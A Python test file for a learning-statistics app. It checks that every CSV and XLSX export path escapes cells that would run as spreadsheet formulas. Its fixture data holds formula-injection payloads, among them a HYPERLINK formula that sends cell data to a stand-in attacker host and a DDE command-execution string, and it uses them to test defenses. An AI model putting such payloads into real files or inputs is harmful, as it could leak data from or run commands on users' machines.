"""SPEC §7 / issue 10 point 1: no file written for people lets a spreadsheet run a formula.

A hostile bundle (names, labels, custom field names and values, additional information,
session, training and course names starting with =, +, -, @, a tab or a carriage return) is
imported through `import-bundle`, then every exporter writes its files: the OPCO logs (Download
now CSV and XLSX, the emailed file, the command line), `export-results`, and the pages' table
downloads (the results table's callback over HTTP, a static table's file). Every cell and header
of every file is read back (csv / openpyxl) and checked.
"""

from __future__ import annotations

import base64
import csv
import io
import json

import openpyxl
import pytest

from auth.users import set_password
from dashboards import components as components
from exports.formatting import FORMULA_START, escape_cell, use_language
from exports.opco_request import parse_opco_query
from exports.stored import build_export_file, exports_dir
from tests.conftest import sign_in
from tests.learner_world import callback_key, response_props

# Each hostile text, as imported (the CSV cells below quote them).
EVIL_LAST = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
EVIL_FIRST = "+33 6 12 34 56 78"
EVIL_INFO = "\t=1+1"
EVIL_LABEL = "@SUM(A1:A9)"
EVIL_FIELD = "=cmd|' /C calc'!A0"
EVIL_VALUE = "-2+3"
EVIL_SESSION = "=1+2"
EVIL_TRAINING = "+Formation"
EVIL_MODULE = "@Module"
EVIL_CR = "\r=1+1"

HOSTILE_BUNDLE = {
    "users.csv": (
        "user_id,email,first_name,last_name,additional_info,labels,created_at,status\r\n"
        f'u1,u1@example.org,"{EVIL_FIRST}","{EVIL_LAST.replace(chr(34), chr(34) * 2)}",'
        f'"{EVIL_INFO}","{EVIL_LABEL}",2026-01-01T09:00:00,active\r\n'
        f'u2,u2@example.org,Anne,"-Dupont","{EVIL_CR}",,2026-01-01T09:00:00,active\r\n'
        "admin,admin@example.org,Ada,Admin,,,2026-01-01T09:00:00,active\r\n"
    ),
    "user_fields.csv": f'user_id,field,value\r\nu1,"{EVIL_FIELD}","{EVIL_VALUE}"\r\nu2,"{EVIL_FIELD}",@x\r\n',
    "roles.csv": "user_id,role,scope_id\r\nadmin,admin,\r\n",
    "trainings.csv": f'training_id,name,published,validity_months\r\nt1,"{EVIL_TRAINING}",true,\r\n',
    "modules.csv": f'module_id,name,keep_results\r\nm1,"{EVIL_MODULE}",best\r\n',
    "activities.csv": "activity_id,module_id,name,max_score\r\na1,m1,Q,10\r\n",
    "training_modules.csv": "training_id,module_id,position\r\nt1,m1,1\r\n",
    "enrollments.csv": "user_id,training_id,enrolled_at\r\nu1,t1,2026-01-02\r\nu2,t1,2026-01-02\r\n",
    "sessions.csv": (
        f'session_id,training_id,name,starts_at,ends_at\r\n-s1,t1,"{EVIL_SESSION}",2026-03-01,2026-03-31\r\n'
    ),
    "connections.csv": (
        "user_id,module_id,connected_at,disconnected_at,session_id\r\n"
        "u1,m1,2026-03-02T08:00:00,2026-03-02T09:00:00,-s1\r\n"
        "u2,m1,2026-03-03T08:00:00,2026-03-03T08:30:00,-s1\r\n"
    ),
    "attempts.csv": (
        "attempt_id,user_id,training_id,module_id,started_at,finished_at\r\n"
        "at1,u1,t1,m1,2026-03-02T08:00:00,2026-03-02T09:00:00\r\n"
    ),
    "answers.csv": "attempt_id,activity_id,score\r\nat1,a1,5\r\n",
}

# The hostile texts and where they must show, escaped.
EXPECTED_ESCAPED = {
    "'" + EVIL_LAST,
    "'" + EVIL_FIRST,
    "'" + EVIL_INFO,
    "'" + EVIL_LABEL,
    "'" + EVIL_FIELD,
    "'" + EVIL_VALUE,
    "'" + EVIL_SESSION,
    "'" + EVIL_TRAINING,
    "'" + EVIL_MODULE,
}


def test_esc001_escape_cell():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert escape_cell(start + "1") == "'" + start + "1"
    assert FORMULA_START == ("=", "+", "-", "@", "\t", "\r")
    for harmless in ("", "a=1", " =1", "'=1", "1-2", "Ève", "\n=1"):
        assert escape_cell(harmless) == harmless
    # Numbers, dates and missing values are not text: unchanged (a negative number cell is no formula).
    for value in (-3, -2.5, None, True):
        assert escape_cell(value) is value
    assert escape_cell(escape_cell("=1")) == "'=1"  # idempotent


@pytest.fixture
def hostile(tmp_path, dash_app):
    folder = tmp_path / "hostile"
    folder.mkdir()
    for name, text in HOSTILE_BUNDLE.items():
        (folder / name).write_bytes(text.encode("utf-8"))
    result = dash_app.server.test_cli_runner().invoke(args=["import-bundle", str(folder)])
    assert result.exit_code == 0, result.output
    with dash_app.server.extensions["learnstats_db"].session() as s:
        set_password(s, "admin@example.org", "password123")
        s.commit()
    return dash_app


def csv_cells(data: bytes, delimiter: str = ",", bom: bool = True) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf") == bom
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def xlsx_cells(data: bytes) -> list[list[str]]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    return [["" if c is None else c for c in row] for row in sheet.iter_rows(values_only=True)]


def assert_no_formula(rows: list[list], must_contain: set[str]) -> None:
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not (isinstance(cell, str) and cell.startswith(FORMULA_START)), f"unescaped cell {cell!r}"
    missing = must_contain - {c for c in cells if isinstance(c, str)}
    assert not missing, f"expected escaped cells not found: {sorted(missing)}"


def test_esc002_opco_logs_every_way_out(hostile, client, tmp_path):
    server = hostile.server
    expected_opco = EXPECTED_ESCAPED | {"'" + EVIL_CR, "'-Dupont", "'@x"}
    files = {}
    assert sign_in(client, "admin@example.org").status_code == 302
    for fmt, delimiter in (("csv", ","), ("csv", ";"), ("xlsx", ",")):
        response = client.get("/download/opco-logs", query_string={"format": fmt, "delimiter": delimiter})
        assert response.status_code == 200, response.get_data(as_text=True)
        files[f"download {fmt}{delimiter}"] = (fmt, delimiter, response.get_data())
        out = tmp_path / f"cli-{fmt}{'semi' if delimiter == ';' else ''}.{fmt}"
        result = server.test_cli_runner().invoke(
            args=["export-opco-logs", "--out", str(out), "--delimiter", delimiter]
        )
        assert result.exit_code == 0, result.output
        files[f"cli {fmt}{delimiter}"] = (fmt, delimiter, out.read_bytes())
        # The emailed file is built by the background job's function.
        with server.app_context():
            from data.scope import global_scope

            request = parse_opco_query([("format", fmt), ("delimiter", delimiter)])
            stored, _ = build_export_file(server, global_scope(), request)
        files[f"email {fmt}{delimiter}"] = (fmt, delimiter, (exports_dir(server) / stored).read_bytes())
    for name, (fmt, delimiter, data) in files.items():
        rows = csv_cells(data, delimiter) if fmt == "csv" else xlsx_cells(data)
        assert rows[0][3] == "'" + EVIL_FIELD, name  # the custom field's column header
        assert len(rows) == 3, name
        # XlsxWriter stores a carriage return as _x000D_ (Excel decodes it, openpyxl does not).
        assert_no_formula(
            rows, expected_opco if fmt == "csv" else {e.replace("\r", "_x000D_") for e in expected_opco}
        )


def test_esc003_export_results_command(hostile, tmp_path):
    out = tmp_path / "results.csv"
    result = hostile.server.test_cli_runner().invoke(
        args=["export-results", "--training", "t1", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    rows = csv_cells(out.read_bytes(), bom=False)  # export-results has no BOM (docs/decisions.md)
    assert len(rows) == 3
    assert_no_formula(rows, {"'" + EVIL_LAST, "'" + EVIL_FIRST, "'-Dupont"})


def results_download(client, dash_app, fmt: str):
    """The training page's results download callback, as the browser posts it after a click."""
    key = "training"
    params = {
        "training_id": "t1",
        "class_id": None,
        "user_id": None,
        "learners_only": True,
        "include_self": False,
        "mode": "learners",
    }
    client.get("/_dash-layout")
    output = {"id": {"type": "results-download", "table": key}, "property": "data"}
    message = {"id": {"type": "results-message", "table": key}, "property": "children"}
    buttons = [
        {"id": {"type": f"results-download-{kind}", "table": key}, "property": "n_clicks", "value": 1}
        for kind in ("csv", "xlsx")
    ]
    body = {
        "output": callback_key(dash_app, (output["id"], "data"), (message["id"], "children")),
        "outputs": [output, message],
        "inputs": buttons,
        "state": [
            {"id": {"type": "results-params", "table": key}, "property": "data", "value": params},
            {"id": {"type": "results-search", "table": key}, "property": "value", "value": None},
            {"id": {"type": "results-sort", "table": key}, "property": "value", "value": "learner"},
            {"id": {"type": "results-order", "table": key}, "property": "value", "value": "asc"},
        ],
        "changedPropIds": [
            json.dumps(buttons[fmt == "xlsx"]["id"], sort_keys=True, separators=(",", ":")) + ".n_clicks"
        ],
    }
    response = client.post("/_dash-update-component", json=body)
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return base64.b64decode(response_props(response, output["id"])["data"]["content"])


def test_esc004_page_table_downloads(hostile, client):
    assert sign_in(client, "admin@example.org").status_code == 302
    # The file holds the screen's columns: the learner's name in one cell (last name first).
    expected = {f"'{EVIL_LAST} {EVIL_FIRST}", "'-Dupont Anne"}
    assert_no_formula(csv_cells(results_download(client, hostile, "csv")), expected)
    data = results_download(client, hostile, "xlsx")
    assert data.startswith(b"PK")
    assert_no_formula(xlsx_cells(data), expected)
    # A static table (e.g. the global page's trainings) is written from the rows the browser holds:
    # a forged row cannot slip a formula through either; headers are escaped too.
    meta = {"columns": [["name", "=Header"], ["n", "Learners"]], "filename": "t", "sheet_name": "T"}
    rows = [{"name": EVIL_TRAINING, "n": -3}, {"name": "@evil", "n": 2}]
    with use_language("en"):
        csv_file = base64.b64decode(components.static_table_file("csv", rows, meta)["content"])
    assert csv_cells(csv_file) == [
        ["'=Header", "Learners"],
        ["'" + EVIL_TRAINING, "-3"],
        ["'@evil", "2"],
    ]
    xlsx_file = base64.b64decode(components.static_table_file("xlsx", rows, meta)["content"])
    assert xlsx_cells(xlsx_file) == [["'=Header", "Learners"], ["'" + EVIL_TRAINING, -3], ["'@evil", 2]]
